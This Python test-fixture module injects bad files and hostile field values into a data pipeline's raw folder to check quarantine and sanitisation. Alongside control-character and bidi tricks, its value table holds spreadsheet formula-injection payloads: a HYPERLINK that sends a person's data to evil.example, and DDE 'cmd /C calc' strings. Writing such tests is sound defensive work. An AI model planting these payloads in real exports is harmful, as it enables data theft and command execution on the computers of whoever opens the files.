"""A bad day's delivery: every kind of bad file and of hostile value, added to a generated raw folder.

Real deliveries hold files that cannot be landed (an empty export, a web server's error page saved as the
CSV, a workbook, a gzip, a file cut in transfer, a column renamed or retyped, yesterday's file sent again)
and values that must not reach a golden record (NUL bytes, bidi overrides, 10,000-character names,
spreadsheet formulas). :func:`inject_faults` writes both next to the generator's files, under names the
sources' globs pick up, and returns what the pipeline must make of them: the reason each bad file is
quarantined for, the good rows added, and the quality flag each hostile value must raise.

Bad files are derived from the generated files of three sources, one per format (a CSV source, a JSON-lines
source, a Parquet source); hostile values are new records of a UTF-8 CSV source, each a copy of a generated
person's record (the person's truth row is added) with one field made hostile.

Example::

    generate(persons=1000, raw_dir="data/raw", truth_dir="data/truth", seed=7)
    faults = inject_faults("data/raw", "data/truth", load_sources())
    faults.bad_files                     # {"fidelite/adherents_vide.csv": "empty", ...}
    faults.hostile["eshop_accounts:H000001"]  # HostileValue(kind="nul_in_name", field="last_name", flag=...)
"""

from __future__ import annotations

import codecs
import csv
import glob
import gzip
import io
import json
import os
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from spark_lib.config import SourcesConfig, SourceSpec

#: the sources the faults go into (the standard profile writes them all)
CSV_SOURCE, JSON_SOURCE, PARQUET_SOURCE, HOSTILE_SOURCE = "loyalty_members", "eshop_orders", "pos_receipts", "eshop_accounts"


@dataclass(frozen=True)
class HostileValue:
    """One kind of hostile value: the field (a column of the hostile source's mapping) it is put in, how
    the delivered value is made from the person's own value, and the flag standardisation must raise."""

    kind: str
    field: str
    flag: str

    def apply(self, value: str) -> str:
        return HOSTILE_VALUES[self.kind](value or "x")


#: kind -> how the delivered value is made from the person's own value
HOSTILE_VALUES = {
    "nul_byte": lambda v: v[:1] + "\x00" + v[1:],
    "c0_control": lambda v: v[:1] + "\x07\x1b[31m" + v[1:],
    "c1_control": lambda v: v + "\x85\x9b",
    "right_to_left_override": lambda v: "\u202e" + v[::-1],
    "bidi_isolate": lambda v: "\u2066" + v + "\u2069",
    "zero_width": lambda v: v[:1] + "\u200b" + v[1:] + "\u200d",
    "bom_inside": lambda v: v[:2] + "\ufeff" + v[2:],
    "line_break_inside": lambda v: v[:1] + "\r\n" + v[1:],
    "ten_thousand_characters": lambda v: (v + " ") * (10_000 // (len(v) + 1) + 1),
    "formula_equals": lambda v: f'=HYPERLINK("http://evil.example/?{v}","{v}")',
    "formula_plus": lambda v: "+cmd|' /C calc'!A0",
    "formula_minus": lambda v: "-2+3+" + v,
    "formula_at": lambda v: "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_after_spaces": lambda v: "  =1+1 " + v,
}

#: each kind of hostile value once, in the field it goes in, with the flag it must raise
HOSTILE_CASES = (
    HostileValue("nul_byte", "last_name", "last_name:control_chars_removed"),
    HostileValue("c0_control", "first_name", "first_name:control_chars_removed"),
    HostileValue("c1_control", "city", "city:control_chars_removed"),
    HostileValue("right_to_left_override", "last_name", "last_name:control_chars_removed"),
    HostileValue("bidi_isolate", "street", "street:control_chars_removed"),
    HostileValue("zero_width", "first_name", "first_name:control_chars_removed"),
    HostileValue("bom_inside", "city", "city:control_chars_removed"),
    HostileValue("line_break_inside", "last_name", "last_name:control_chars_removed"),
    HostileValue("ten_thousand_characters", "first_name", "first_name:truncated"),
    HostileValue("formula_equals", "last_name", "last_name:formula_prefix"),
    HostileValue("formula_plus", "street", "street:formula_prefix"),
    HostileValue("formula_minus", "first_name", "first_name:formula_prefix"),
    HostileValue("formula_at", "city", "city:formula_prefix"),
    HostileValue("formula_after_spaces", "last_name", "last_name:formula_prefix"),
)


@dataclass
class InjectedFaults:
    """What :func:`inject_faults` wrote and what the pipeline must make of it."""

    #: file (relative to the raw folder) -> the reason it must be quarantined for (bronze.file_quarantine)
    bad_files: dict[str, str] = field(default_factory=dict)
    #: record key (``source:record id``) -> the hostile value it carries
    hostile: dict[str, HostileValue] = field(default_factory=dict)
    #: source -> data rows added in good files (they must all be read)
    good_rows: dict[str, int] = field(default_factory=dict)


def inject_faults(raw_dir: str | os.PathLike, truth_dir: str | os.PathLike, sources: SourcesConfig,
                  tag: str = "2026-11-01") -> InjectedFaults:
    """Write the bad files and the hostile records into ``raw_dir`` (after :func:`generate`), add the hostile
    records' persons to ``truth_dir/truth.parquet``; what the pipeline must make of them. ``tag`` goes into
    every file name (a delivery date)."""
    raw = Path(raw_dir)
    faults = InjectedFaults()
    writer = _FileWriter(raw, tag, faults)
    _bad_csv_files(writer, sources.get(CSV_SOURCE))
    _bad_json_files(writer, sources.get(JSON_SOURCE))
    _bad_parquet_files(writer, sources.get(PARQUET_SOURCE))
    _hostile_records(writer, sources.get(HOSTILE_SOURCE), Path(truth_dir) / "truth.parquet")
    return faults


@dataclass
class _FileWriter:
    raw: Path
    tag: str
    faults: InjectedFaults

    def first_file(self, spec: SourceSpec) -> Path:
        files = sorted(Path(p) for p in glob.glob(spec.glob(self.raw)))
        if not files:
            raise FileNotFoundError(f"no generated file of {spec.name} ({spec.glob(self.raw)}): generate first")
        return files[0]

    def write(self, spec: SourceSpec, name: str, content: bytes, reason: str | None) -> Path:
        """Write ``content`` under a name the source's glob matches; ``reason``: why it must be quarantined."""
        pattern = Path(spec.path)
        path = self.raw / pattern.parent / pattern.name.replace("*", f"_{self.tag}_{name}", 1)
        path.write_bytes(content)
        if reason:
            self.faults.bad_files[str(path.relative_to(self.raw))] = reason
        return path


def _csv_rows(spec: SourceSpec, path: Path, limit: int) -> list[list[str]]:
    with open(path, encoding=spec.encoding, newline="") as handle:
        rows = csv.reader(handle, delimiter=spec.separator, quotechar=spec.quote)
        return [row for _, row in zip(range(limit + 1), rows)]


def _csv_text(rows: list[list[str]], separator: str) -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=separator, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(rows)
    return out.getvalue()


def _bad_csv_files(writer: _FileWriter, spec: SourceSpec) -> None:
    source = writer.first_file(spec)
    header, *rows = _csv_rows(spec, source, 20)
    text = _csv_text([header, *rows], spec.separator)
    encoded = text.encode(spec.encoding)
    writer.write(spec, "vide", b"", "empty")
    writer.write(spec, "lignes_vides", b"\r\n\r\n\n", "empty")
    writer.write(spec, "entete_seule", _csv_text([header], spec.separator).encode(spec.encoding), "header only")
    other = "," if spec.separator != "," else ";"
    writer.write(spec, "mauvais_separateur", _csv_text([header, *rows], other).encode(spec.encoding), "wrong separator")
    writer.write(spec, "utf16", text.encode("utf-16"), "wrong encoding")
    if codecs.lookup(spec.encoding).name != "utf-8":
        accented = [[*row[:-1], row[-1] + " é"] for row in rows]
        writer.write(spec, "utf8", _csv_text([header, *accented], spec.separator).encode("utf-8"), "wrong encoding")
    mapped = set(spec.identity.values())
    dropped = next(i for i, column in enumerate(header) if column in mapped and column != spec.record_id)
    without = [[v for i, v in enumerate(row) if i != dropped] for row in [header, *rows]]
    writer.write(spec, "colonne_manquante", _csv_text(without, spec.separator).encode(spec.encoding), "missing column")
    twice = [[*row, row[dropped]] for row in [header, *rows]]
    writer.write(spec, "colonne_en_double", _csv_text(twice, spec.separator).encode(spec.encoding), "duplicate column")
    writer.write(spec, "coupe", _cut_last_line(text).encode(spec.encoding), "truncated")
    writer.write(spec, "classeur", xlsx_bytes(), "wrong format")
    writer.write(spec, "erreur_serveur", b"<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head>"
                                         b"<body><h1>502 Bad Gateway</h1></body></html>\n", "wrong format")
    writer.write(spec, "json", "\n".join(json.dumps(dict(zip(header, row)), ensure_ascii=False) for row in rows)
                 .encode("utf-8"), "wrong format")
    writer.write(spec, "compresse", gzip.compress(encoded, mtime=0), "compressed")
    # the same bytes under another name: the copy listed second (sorted paths) is the duplicate
    copy = writer.write(spec, "renvoi", source.read_bytes(), None)
    second = max(source, copy)
    writer.faults.bad_files[str(second.relative_to(writer.raw))] = "duplicate file"


def _cut_last_line(text: str) -> str:
    """``text`` cut in the middle of its last line, with no line end: a transfer that stopped."""
    body = text.rstrip("\n")
    start = body.rindex("\n") + 1
    return body[: start + (len(body) - start) // 2]


def xlsx_bytes() -> bytes:
    """What an Excel workbook starts with: a zip holding [Content_Types].xml and xl/ parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as workbook:
        workbook.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        workbook.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook/>')
    return buffer.getvalue()


def _bad_json_files(writer: _FileWriter, spec: SourceSpec) -> None:
    with open(writer.first_file(spec), encoding=spec.encoding) as handle:
        lines = [line.rstrip("\n") for _, line in zip(range(20), handle)]
    writer.write(spec, "coupe", _cut_last_line("\n".join(lines)).encode(spec.encoding), "truncated")
    document = json.dumps([json.loads(line) for line in lines], indent=2, ensure_ascii=False)
    writer.write(spec, "document", document.encode(spec.encoding), "wrong format")


def _bad_parquet_files(writer: _FileWriter, spec: SourceSpec) -> None:
    table = pq.read_table(writer.first_file(spec)).slice(0, 20)
    buffer = io.BytesIO()
    pq.write_table(table, buffer)
    whole = buffer.getvalue()
    writer.write(spec, "coupe", whole[: len(whole) // 2], "truncated")
    writer.write(spec, "illisible", b"PAR1" + b"\x00not a parquet footer, nor its pages" * 8 + b"PAR1", "unreadable")
    retyped = next(f.name for f in table.schema if pa.types.is_string(f.type) and f.name != spec.record_id)
    buffer = io.BytesIO()
    pq.write_table(table.set_column(table.schema.get_field_index(retyped), retyped,
                                    pa.array(range(table.num_rows), pa.int64())), buffer)
    writer.write(spec, "retype", buffer.getvalue(), "retyped column")
    text = table.to_pandas().head(5).to_csv(sep=";", index=False)
    writer.write(spec, "csv", text.encode("utf-8"), "wrong format")


def _hostile_records(writer: _FileWriter, spec: SourceSpec, truth_file: Path) -> None:
    """One record per hostile case, copied from a generated record of ``spec`` whose person is known."""
    header, *rows = _csv_rows(spec, writer.first_file(spec), 10 * len(HOSTILE_CASES))
    truth = pq.read_table(truth_file)
    persons = {(r["source"], r["source_record_id"]): r["person_id"] for r in truth.to_pylist()
               if r["source"] == spec.name}
    id_column = header.index(spec.record_id)
    usable = [row for row in rows if (spec.name, row[id_column]) in persons and all(
        row[header.index(spec.identity[case.field])] for case in HOSTILE_CASES)]
    if len(usable) < len(HOSTILE_CASES):
        usable = [row for row in rows if (spec.name, row[id_column]) in persons]
    records, truth_rows = [], []
    for number, (case, row) in enumerate(zip(HOSTILE_CASES, usable), start=1):
        record = list(row)
        record_id = f"H{number:06d}"
        record[id_column] = record_id
        column = header.index(spec.identity[case.field])
        record[column] = case.apply(record[column])
        records.append(record)
        truth_rows.append({"source": spec.name, "source_record_id": record_id,
                           "person_id": persons[(spec.name, row[id_column])]})
        writer.faults.hostile[f"{spec.name}:{record_id}"] = case
    text = _csv_text([header, *records], spec.separator)
    writer.write(spec, "valeurs_hostiles", text.encode(spec.encoding), None)
    writer.faults.good_rows[spec.name] = writer.faults.good_rows.get(spec.name, 0) + len(records)
    extra = pa.Table.from_pylist(truth_rows, schema=truth.schema)
    pq.write_table(pa.concat_tables([truth, extra]), truth_file)
